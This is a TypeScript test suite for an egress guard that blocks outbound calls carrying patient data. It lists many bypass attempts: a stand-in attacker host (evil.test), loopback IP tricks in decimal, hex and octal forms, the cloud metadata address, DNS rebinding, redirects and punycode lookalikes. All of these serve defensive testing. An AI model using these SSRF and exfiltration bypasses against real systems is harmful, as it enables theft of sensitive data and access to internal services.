/**
 * Hostile outbound calls through the installed egress guard: a real loopback HTTPS server (and a
 * plain HTTP one), certificates made for this run, and a DNS-free resolver stub, so every name
 * resolves to an address the test chooses. Every refusal must carry a PG_EGRESS_* code, report one
 * onBlocked event, and leave the servers untouched.
 */
import * as http from 'node:http';
import * as https from 'node:https';
import type { AddressInfo } from 'node:net';
import { request as undiciRequest, getGlobalDispatcher, interceptors } from 'undici';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { installEgressGuard, type EgressBlockedEvent, type EgressGuard, type LookupFunction } from '../../src/egress/index.js';
import type { EgressConfig, EgressHost } from '../../src/policy/types.js';
import { createPki } from '../helpers/tls.js';

const pki = createPki('phiguard-adv-egress-');
const hits: string[] = [];
let tlsServer: https.Server;
let plainServer: http.Server;
let P = 0;
let Q = 0;
let guard: EgressGuard;
const events: EgressBlockedEvent[] = [];
const answers = new Map<string, string[]>();
const PHI = JSON.stringify({ note: 'Patient SSN 123-45-6789, MRN: 4455667, DOB 03/14/1961' });

/** The resolver stub: each name answers from its queue (the last answer repeats); no DNS. */
const stub: LookupFunction = (hostname, options, cb) => {
  const queue = answers.get(hostname.toLowerCase().replace(/\.$/, ''));
  if (!queue || queue.length === 0) return cb(Object.assign(new Error('ENOTFOUND'), { code: 'ENOTFOUND' }));
  const address = queue.length > 1 ? queue.shift()! : queue[0]!;
  const family = address.includes(':') ? 6 : 4;
  return (options as { all?: boolean }).all ? cb(null, [{ address, family }]) : cb(null, address, family);
};
const resolveOnce = (name: string) => new Promise<string>((r) => stub(name, {}, (_e: unknown, a: string) => r(a)));

const host = (h: string, extra: Partial<EgressHost> = {}): EgressHost => ({ host: h, wildcard: false, ports: [P], baa: false, allowPrivate: true, http: false, ...extra });
let config: EgressConfig;

function onRequest(req: http.IncomingMessage, res: http.ServerResponse): void {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    hits.push(`${req.method} ${req.headers.host} ${req.url}`);
    const loc: Record<string, string> = {
      '/to-metadata': 'http://169.254.169.254/latest/meta-data/',
      '/to-unlisted': `https://evil.test:${P}/stolen`,
      '/to-loopback-literal': `https://127.0.0.1:${P}/x`,
      '/to-baa': `https://baa.partner.test:${P}/ok`,
    };
    const to = loc[req.url ?? ''];
    if (to) res.writeHead(302, { location: to }).end();
    else res.writeHead(200, { 'content-type': 'text/plain' }).end(`ok ${Buffer.concat(chunks).length}`);
  });
}

beforeAll(async () => {
  pki.ca('ca');
  pki.leaf('server', 'ca', 'DNS:api.partner.test,DNS:baa.partner.test,DNS:*.svc.partner.test,DNS:evil.test,DNS:rebind.partner.test,DNS:public.partner.test,DNS:plain.partner.test,IP:127.0.0.1');
  tlsServer = https.createServer({ cert: pki.read('server.crt'), key: pki.read('server.key') }, onRequest);
  plainServer = http.createServer(onRequest);
  await new Promise<void>((r) => tlsServer.listen(0, '127.0.0.1', r));
  await new Promise<void>((r) => plainServer.listen(0, '127.0.0.1', r));
  P = (tlsServer.address() as AddressInfo).port;
  Q = (plainServer.address() as AddressInfo).port;
  config = {
    enabled: true,
    scanBodies: true,
    maxScanBytes: 4096,
    allow: [
      host('api.partner.test'),
      host('baa.partner.test', { baa: true }),
      host('svc.partner.test', { wildcard: true }),
      host('plain.partner.test', { http: true, ports: [Q], baa: true }),
      host('public.partner.test', { allowPrivate: false }),
      host('rebind.partner.test', { allowPrivate: false }),
    ],
  };
  for (const n of ['api.partner.test', 'baa.partner.test', 'a.svc.partner.test', 'evil.test', 'plain.partner.test', 'public.partner.test', 'api.partner.test.evil.test']) answers.set(n, ['127.0.0.1']);
  guard = installEgressGuard(config, { lookup: stub, tls: { ca: pki.read('ca.crt') }, onBlocked: (e) => events.push(e) });
});

afterAll(async () => {
  await guard?.uninstall();
  tlsServer?.closeAllConnections();
  await new Promise((r) => tlsServer?.close(r));
  await new Promise((r) => plainServer?.close(r));
});

beforeEach(() => {
  hits.length = 0;
  events.length = 0;
});

const ca = () => pki.read('ca.crt');

/** Runs a call that must be refused; returns the error's code. */
async function refused(call: () => Promise<unknown>): Promise<{ code: string; reason: string; message: string }> {
  try {
    await call();
  } catch (err) {
    const e = (err as { cause?: unknown }).cause && !(err as { code?: string }).code?.startsWith('PG_') ? (err as { cause: Error }).cause : err;
    const x = e as { code: string; reason: string; message: string };
    return { code: x.code, reason: x.reason, message: x.message };
  }
  throw new Error('the call was not refused');
}

const fetchText = async (url: string, init?: RequestInit) => (await fetch(url, init)).text();
const undiciText = async (url: string, opts: Parameters<typeof undiciRequest>[1] = {}) => (await undiciRequest(url, opts)).body.text();
function nodeCall(mod: typeof http | typeof https, url: string, opts: https.RequestOptions = {}, body?: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = mod.request(url, { ...opts, ...(mod === https ? { ca: ca() } : {}) }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve(text));
    });
    req.on('error', reject);
    req.end(body);
  });
}
const httpsGet = (url: string) => new Promise<string>((resolve, reject) => {
  https.get(url, { ca: ca() }, (res) => { let t = ''; res.on('data', (c) => (t += c)); res.on('end', () => resolve(t)); }).on('error', reject);
});

function expectBlocked(r: { code: string; reason: string; message: string }, code: string, reason: string, hostName?: string): void {
  expect(r.code).toBe(code);
  expect(r.reason).toBe(reason);
  expect(r.message).not.toMatch(/secret|6789|\?/);
  expect(hits).toEqual([]);
  expect(events.length).toBeGreaterThanOrEqual(1);
  for (const e of events) {
    expect(Object.keys(e).sort()).toEqual(['code', 'host', 'method', 'reason']);
    expect(JSON.stringify(e)).not.toMatch(/secret|6789|\//);
  }
  if (hostName !== undefined) expect(events[0]!.host).toBe(hostName);
}

describe('allowed calls go through', () => {
  it('fetch, undici.request, https.request and https.get to a listed https host', async () => {
    expect(await fetchText(`https://api.partner.test:${P}/a`)).toBe('ok 0');
    expect(await undiciText(`https://api.partner.test:${P}/b`)).toBe('ok 0');
    expect(await nodeCall(https, `https://api.partner.test:${P}/c`)).toBe('ok 0');
    expect(await httpsGet(`https://a.svc.partner.test:${P}/d`)).toBe('ok 0');
    expect(hits).toHaveLength(4);
    expect(events).toEqual([]);
  });
  it('uppercase and a trailing dot are the same listed host', async () => {
    expect(await fetchText(`https://API.Partner.TEST.:${P}/up`)).toBe('ok 0');
  });
  it('PHI to a BAA host is allowed (fetch and https.request)', async () => {
    expect(await fetchText(`https://baa.partner.test:${P}/phi`, { method: 'POST', body: PHI })).toBe(`ok ${PHI.length}`);
    expect(await nodeCall(https, `https://baa.partner.test:${P}/phi`, { method: 'POST' }, PHI)).toBe(`ok ${PHI.length}`);
  });
  it('a non-PHI body to a non-BAA host is allowed', async () => {
    expect(await fetchText(`https://api.partner.test:${P}/x`, { method: 'POST', body: '{"status":"ok"}' })).toBe('ok 15');
  });
  it('plain http to a host entry with http: true', async () => {
    expect(await nodeCall(http, `http://plain.partner.test:${Q}/p`)).toBe('ok 0');
  });
  it('a redirect from a listed host to another listed host is followed (fetch)', async () => {
    expect(await fetchText(`https://api.partner.test:${P}/to-baa`)).toBe('ok 0');
    expect(hits).toHaveLength(2);
  });
});

describe('refused calls (PG_EGRESS_*)', () => {
  it('1 unlisted host (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://evil.test:${P}/?secret=1`)), 'PG_EGRESS_DENIED', 'not-listed', 'evil.test'));
  it('2 suffix trick api.partner.test.evil.test (undici.request)', async () => expectBlocked(await refused(() => undiciText(`https://api.partner.test.evil.test:${P}/`)), 'PG_EGRESS_DENIED', 'not-listed'));
  it('3 prefix trick evilapi.partner.test (https.request)', async () => expectBlocked(await refused(() => nodeCall(https, `https://evilapi.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'not-listed'));
  it('4 wildcard does not cover the bare name (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://svc.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'not-listed'));
  it('5 http://allowed@evil/ (fetch: credentials never reach the check as the host)', async () => {
    const r = await refused(() => fetchText(`https://api.partner.test@evil.test:${P}/`));
    expect(r.message.length).toBeGreaterThan(0); // fetch refuses credentials in a URL before dispatch
    expect(hits).toEqual([]);
  });
  it('6 allowed@evil through https.request', async () => expectBlocked(await refused(() => nodeCall(https, `https://api.partner.test@evil.test:${P}/`)), 'PG_EGRESS_DENIED', 'credentials'));
  it('7 credentials on a listed host (https.request auth)', async () => expectBlocked(await refused(() => nodeCall(https, `https://api.partner.test:${P}/`, { auth: 'u:p' })), 'PG_EGRESS_DENIED', 'credentials'));
  it('8 port not listed (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://api.partner.test:${Q}/`)), 'PG_EGRESS_DENIED', 'port'));
  it('9 default port 443 not listed (https.get)', async () => expectBlocked(await refused(() => httpsGet('https://api.partner.test/')), 'PG_EGRESS_DENIED', 'port'));
  it('10 http:// to an https-only host (http.request)', async () => expectBlocked(await refused(() => nodeCall(http, `http://api.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'scheme'));
  it('11 http:// to an https-only host (fetch)', async () => expectBlocked(await refused(() => fetchText(`http://api.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'scheme'));
  it('12 loopback literal 127.0.0.1 (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://127.0.0.1:${P}/`)), 'PG_EGRESS_DENIED', 'private-address', '127.0.0.1'));
  it('13 decimal literal http://2130706433/ (fetch)', async () => expectBlocked(await refused(() => fetchText(`http://2130706433:${P}/`)), 'PG_EGRESS_DENIED', 'private-address', '127.0.0.1'));
  it('14 hex short form http://0x7f.1/ (http.request)', async () => expectBlocked(await refused(() => nodeCall(http, `http://0x7f.1:${P}/`)), 'PG_EGRESS_DENIED', 'private-address', '127.0.0.1'));
  it('15 octal literal http://017700000001/ (undici.request)', async () => expectBlocked(await refused(() => undiciText(`http://017700000001:${P}/`)), 'PG_EGRESS_DENIED', 'private-address', '127.0.0.1'));
  it('16 IPv4-mapped IPv6 [::ffff:127.0.0.1] (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://[::ffff:127.0.0.1]:${P}/`)), 'PG_EGRESS_DENIED', 'private-address'));
  it('17 IPv6 loopback [::1] (https.get)', async () => expectBlocked(await refused(() => httpsGet(`https://[::1]:${P}/`)), 'PG_EGRESS_DENIED', 'private-address'));
  it('18 metadata address 169.254.169.254 (http.request)', async () => expectBlocked(await refused(() => nodeCall(http, 'http://169.254.169.254/latest/meta-data/')), 'PG_EGRESS_DENIED', 'private-address', '169.254.169.254'));
  it('19 punycode lookalike of a listed host (fetch)', async () => {
    const puny = new URL('https://\u0430pi.partner.test/').hostname; // Cyrillic a
    expect(puny).toMatch(/^xn--/);
    answers.set(puny, ['127.0.0.1']);
    expectBlocked(await refused(() => fetchText(`https://\u0430pi.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'not-listed', puny);
  });
  it('20 listed host resolving to loopback without allowPrivate (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://public.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'private-address', 'public.partner.test'));
  it('21 DNS rebinding: public at check time, 127.0.0.1 at connect time (fetch)', async () => {
    answers.set('rebind.partner.test', ['93.184.216.34', '127.0.0.1']);
    expect(await resolveOnce('rebind.partner.test')).toBe('93.184.216.34'); // what a pre-flight check would see
    expectBlocked(await refused(() => fetchText(`https://rebind.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'private-address', 'rebind.partner.test');
  });
  it('22 DNS rebinding through https.request', async () => {
    answers.set('rebind.partner.test', ['93.184.216.34', '127.0.0.1']);
    await resolveOnce('rebind.partner.test');
    expectBlocked(await refused(() => nodeCall(https, `https://rebind.partner.test:${P}/`)), 'PG_EGRESS_DENIED', 'private-address');
  });
  it('23 redirect from a listed host to 169.254.169.254 (fetch)', async () => {
    const r = await refused(() => fetchText(`https://api.partner.test:${P}/to-metadata`));
    expect([r.code, r.reason]).toEqual(['PG_EGRESS_DENIED', 'private-address']);
    expect(hits).toHaveLength(1); // only the first hop reached the listed server
    expect(events.map((e) => e.host)).toEqual(['169.254.169.254']);
  });
  it('24 redirect to an unlisted host (fetch)', async () => {
    const r = await refused(() => fetchText(`https://api.partner.test:${P}/to-unlisted`));
    expect([r.code, r.reason]).toEqual(['PG_EGRESS_DENIED', 'not-listed']);
    expect(hits).toHaveLength(1);
  });
  it('25 redirect to a loopback literal through undici redirect interceptor', async () => {
    const d = getGlobalDispatcher().compose(interceptors.redirect({ maxRedirections: 3 }));
    const r = await refused(() => undiciText(`https://api.partner.test:${P}/to-loopback-literal`, { dispatcher: d }));
    expect([r.code, r.reason]).toEqual(['PG_EGRESS_DENIED', 'private-address']);
    expect(hits).toHaveLength(1);
  });
  it('26 PHI body to a non-BAA host (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://api.partner.test:${P}/?q=secret`, { method: 'POST', body: PHI })), 'PG_EGRESS_PHI', 'phi', 'api.partner.test'));
  it('27 PHI body to a non-BAA host (undici.request)', async () => expectBlocked(await refused(() => undiciText(`https://api.partner.test:${P}/`, { method: 'POST', body: PHI })), 'PG_EGRESS_PHI', 'phi'));
  it('28 PHI body to a non-BAA host (https.request, written in pieces)', async () => {
    const r = await refused(() => new Promise((resolve, reject) => {
      const req = https.request(`https://api.partner.test:${P}/`, { method: 'POST', ca: ca() }, resolve);
      req.on('error', reject);
      req.write(PHI.slice(0, 20));
      req.end(PHI.slice(20));
    }));
    expectBlocked(r, 'PG_EGRESS_PHI', 'phi');
  });
  it('29 PHI in a streamed fetch body', async () => {
    const body = new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode(PHI)); c.close(); } });
    expectBlocked(await refused(() => fetchText(`https://api.partner.test:${P}/`, { method: 'POST', body, duplex: 'half' } as RequestInit)), 'PG_EGRESS_PHI', 'phi');
  });
  it('30 a body larger than maxScanBytes to a non-BAA host is refused', async () => expectBlocked(await refused(() => fetchText(`https://api.partner.test:${P}/`, { method: 'POST', body: 'x'.repeat(5000) })), 'PG_EGRESS_PHI', 'body-too-large'));
  it('31 unix socket path is refused (http.request)', async () => expectBlocked(await refused(() => nodeCall(http, 'http://api.partner.test/', { socketPath: '/tmp/x.sock' })), 'PG_EGRESS_DENIED', 'bad-url'));
  it('32 NAT64 embedding loopback [64:ff9b::7f00:1] (fetch)', async () => expectBlocked(await refused(() => fetchText(`https://[64:ff9b::7f00:1]:${P}/`)), 'PG_EGRESS_DENIED', 'private-address'));
  it('33 ESM named import sees the patched request', async () => {
    const { request } = await import('node:https');
    expect(() => request(`https://evil.test:${P}/`)).toThrow(expect.objectContaining({ code: 'PG_EGRESS_DENIED' }));
  });
});
